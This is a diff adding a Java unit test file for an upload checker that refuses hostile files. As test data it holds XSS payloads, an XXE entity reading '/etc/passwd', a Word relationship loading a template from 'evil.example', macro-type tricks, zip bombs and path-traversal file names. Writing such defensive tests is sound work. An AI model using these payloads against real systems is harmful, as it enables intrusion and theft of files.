@@ -1,0 +1,186 @@
+package org.belay.community;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.awt.image.BufferedImage;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.util.Arrays;
+import javax.imageio.ImageIO;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.belay.shared.Problem;
+import org.belay.shared.Refused;
+import org.belay.shared.table.UploadedFile;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** What people upload is hostile until shown otherwise. */
+class FileCheckTest {
+
+    private static void refused(UploadedFile file, String key) {
+        assertThatThrownBy(() -> FileCheck.check(file))
+                .isInstanceOfSatisfying(
+                        Refused.class,
+                        r -> assertThat(r.problems())
+                                .extracting(Problem::key)
+                                .containsExactly("community.file." + key));
+    }
+
+    private static byte[] image(String format) throws IOException {
+        var bytes = new ByteArrayOutputStream();
+        ImageIO.write(new BufferedImage(20, 10, BufferedImage.TYPE_INT_RGB), format, bytes);
+        return bytes.toByteArray();
+    }
+
+    private static byte[] bytes(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    @Test
+    void ordinaryFilesAreTaken() throws IOException {
+        var workbook = new ByteArrayOutputStream();
+        try (var book = new XSSFWorkbook()) {
+            book.createSheet("Plan").createRow(0).createCell(0).setCellValue("First");
+            book.write(workbook);
+        }
+        assertThat(FileCheck.check(Uploads.file("Plan.xlsx", workbook.toByteArray()))
+                        .kind())
+                .isEqualTo(FileKind.EXCEL);
+        assertThat(FileCheck.check(Uploads.file("talk.docx", Uploads.zip(Uploads.word())))
+                        .kind())
+                .isEqualTo(FileKind.WORD);
+        assertThat(FileCheck.check(Uploads.file("list.PDF", Uploads.pdf())).kind())
+                .isEqualTo(FileKind.PDF);
+        assertThat(FileCheck.check(Uploads.file("a.png", image("png"))).kind()).isEqualTo(FileKind.PNG);
+        assertThat(FileCheck.check(Uploads.file("a.jpeg", image("jpg"))).kind()).isEqualTo(FileKind.JPEG);
+        assertThat(FileCheck.check(Uploads.text("notes.txt", "Größe: 5 < 6\n")).kind())
+                .isEqualTo(FileKind.TEXT);
+    }
+
+    @Test
+    void anEndingThatLiesIsRefused() throws IOException {
+        refused(Uploads.file("picture.png", Uploads.pdf()), "lying");
+        refused(Uploads.file("paper.pdf", image("png")), "lying");
+        refused(Uploads.text("paper.pdf", "just words"), "lying");
+        refused(Uploads.file("talk.xlsx", Uploads.zip(Uploads.word())), "lying");
+        refused(Uploads.file("run.exe", Uploads.pdf()), "lying");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<!DOCTYPE html><script>alert(1)</script>",
+                "  \n<html><body onload=alert(1)>",
+                "\ufeff<svg onload=alert(1)>",
+                "<?xml version=\"1.0\"?><x/>",
+                "<SCRIPT>alert(1)</SCRIPT>"
+            })
+    void aPageIsNoPictureAndNoText(String page) {
+        refused(Uploads.text("picture.png", page), "unknown");
+        refused(Uploads.text("notes.txt", page), "unknown");
+    }
+
+    @Test
+    void programsAndOldDocumentsAreOfNoKindThatIsShared() {
+        refused(Uploads.file("run.txt", new byte[] {'M', 'Z', 0, 1, 2}), "unknown");
+        refused(Uploads.file("old.docx", new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0}), "unknown");
+        refused(Uploads.file("a.txt", new byte[] {(byte) 0xff, (byte) 0xfe, 'a', 0}), "unknown");
+        refused(Uploads.file("half.pdf", bytes("%PDF-1.4 and then nothing")), "unknown");
+    }
+
+    @Test
+    void aPictureWithSomethingBehindItIsRefused() throws IOException {
+        var png = image("png");
+        var more = Arrays.copyOf(png, png.length + 20);
+        refused(Uploads.file("a.png", more), "unknown");
+    }
+
+    @Test
+    void emptyAndHugeFilesAreRefused() {
+        refused(Uploads.file("a.txt", new byte[0]), "empty");
+        refused(Uploads.file("a.pdf", new byte[FileCheck.MOST_BYTES + 1]), "too-large");
+    }
+
+    @Test
+    void aBombIsNotUnpacked() {
+        var parts = Uploads.word();
+        parts.put("word/media/image.bin", new byte[60 << 20]);
+        refused(Uploads.file("talk.docx", Uploads.zip(parts)), "bomb");
+        var many = Uploads.word();
+        for (var i = 0; i < 2_100; i++) {
+            many.put("word/part" + i + ".xml", new byte[0]);
+        }
+        refused(Uploads.file("talk.docx", Uploads.zip(many)), "bomb");
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "application/vnd.ms-word.document.macroEnabled.main+xml,",
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml,"
+                + "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml,"
+                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml,"
+                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
+    })
+    void whatCanRunOrLoadsSomethingIsRefused(String mainType, String relation) {
+        var relations = relation == null
+                ? ""
+                : "<Relationship Id=\"r1\" Type=\"%s\" Target=\"https://evil.example/x.dotm\" TargetMode=\"External\"/>"
+                        .formatted(relation);
+        refused(Uploads.file("talk.docx", Uploads.zip(Uploads.word(mainType, relations))), "active");
+    }
+
+    @Test
+    void aMacroUnderAnotherNameIsFoundByItsType() {
+        var parts = Uploads.word();
+        parts.put("[Content_Types].xml", Uploads.xml("""
+                <Types><Override PartName="/word/document.xml"
+                  ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
+                  <Default Extension="png" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>"""));
+        refused(Uploads.file("talk.docx", Uploads.zip(parts)), "active");
+        var hidden = Uploads.word();
+        hidden.put("word/vbaProject.bin", new byte[] {1});
+        refused(Uploads.file("talk.docx", Uploads.zip(hidden)), "active");
+    }
+
+    @Test
+    void aDocumentThatDeclaresEntitiesIsRefused() {
+        var parts = Uploads.word();
+        parts.put(
+                "[Content_Types].xml",
+                bytes("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Types>&x;</Types>"));
+        refused(Uploads.file("talk.docx", Uploads.zip(parts)), "active");
+    }
+
+    @Test
+    void anArchiveOrATemplateIsNoDocument() {
+        var archive = new java.util.LinkedHashMap<String, byte[]>();
+        archive.put("a.txt", bytes("a"));
+        refused(Uploads.file("talk.docx", Uploads.zip(archive)), "unknown");
+        refused(
+                Uploads.file(
+                        "talk.docx",
+                        Uploads.zip(Uploads.word(
+                                "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
+                                ""))),
+                "unknown");
+        refused(Uploads.file("talk.docx", Arrays.copyOf(Uploads.zip(Uploads.word()), 60)), "damaged");
+    }
+
+    @Test
+    void namesAreKeptWithoutWhatMisleads() {
+        assertThat(FileCheck.check(Uploads.text("../../etc/x\\y/a\u202Efdp\n\".txt", "a"))
+                        .name())
+                .isEqualTo("afdp.txt");
+        assertThat(FileCheck.check(Uploads.text("ä".repeat(300) + ".txt", "a")).name())
+                .hasSize(FileCheck.LONGEST_NAME)
+                .endsWith(".txt");
+        refused(Uploads.text("noending", "a"), "name");
+        refused(Uploads.text(".txt", "a"), "name");
+    }
+}
